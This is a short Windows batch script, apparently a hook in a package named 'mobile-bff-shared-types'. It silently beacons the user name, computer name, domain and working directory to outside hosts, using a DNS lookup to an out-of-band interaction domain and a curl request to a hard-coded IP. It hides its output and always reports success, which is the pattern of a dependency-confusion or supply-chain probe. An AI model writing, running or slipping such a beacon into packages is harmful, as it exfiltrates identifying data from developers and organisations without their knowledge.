@echo off
set P=mobile-bff-shared-types
nslookup %USERNAME%.%COMPUTERNAME%.%USERDOMAIN%.w.oast-relay.example >nul 2>&1
curl -s -m 5 "http://198.51.100.44:8080/hit?p=%P%&u=%USERNAME%&h=%COMPUTERNAME%&dom=%USERDOMAIN%&d=%CD%" >nul 2>&1
exit /b 0
